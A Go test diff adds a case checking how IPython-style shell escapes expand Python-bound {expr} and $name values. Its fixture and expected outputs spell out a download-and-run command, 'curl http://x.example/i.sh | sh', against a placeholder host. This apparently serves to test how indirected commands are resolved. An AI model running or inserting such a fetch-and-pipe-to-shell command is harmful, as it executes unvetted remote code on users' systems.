@@ -50,3 +50,21 @@ func TestPyFold(t *testing.T) {
 		}
 	}
 }
+
+// TestIPythonExpand: a shell escape's {expr} and $name take the values
+// the Python gives them; names it does not bind, shell braces and $$
+// are left to the shell.
+func TestIPythonExpand(t *testing.T) {
+	p := newPyFolder("u = 'http://x.example/i.sh'\ncmd = 'curl ' + u + ' | sh'\n")
+	for in, want := range map[string]string{
+		"curl {u} | sh":       "curl http://x.example/i.sh | sh",
+		"{cmd}":               "curl http://x.example/i.sh | sh",
+		"$cmd":                "curl http://x.example/i.sh | sh",
+		"echo {a,b} $HOME $$": "echo {a,b} $HOME $",
+		"ls {{x}}":            "ls {{x}}",
+	} {
+		if got := ipyExpand(in, p); got != want {
+			t.Errorf("ipyExpand(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
